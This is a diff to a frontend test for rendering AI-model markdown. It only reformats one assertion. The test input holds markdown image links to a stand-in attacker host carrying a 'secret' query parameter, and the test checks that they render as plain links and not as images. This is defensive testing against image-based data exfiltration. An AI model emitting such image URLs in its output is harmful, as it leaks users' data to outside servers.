@@ -43,7 +43,10 @@ describe('Markdown from a model', () => {
       '![a cat](https://evil.example/?q=secret) ![](https://evil.example/b.png) ![inline](data:image/png;base64,AA)',
     )
     expect(container.querySelector('img, picture, video, [srcset], [style]')).toBeNull()
-    expect(screen.getByRole('link', { name: 'a cat (evil.example)' })).toHaveAttribute('href', 'https://evil.example/?q=secret')
+    expect(screen.getByRole('link', { name: 'a cat (evil.example)' })).toHaveAttribute(
+      'href',
+      'https://evil.example/?q=secret',
+    )
     expect(screen.getByText('inline')).toBeVisible()
   })
 
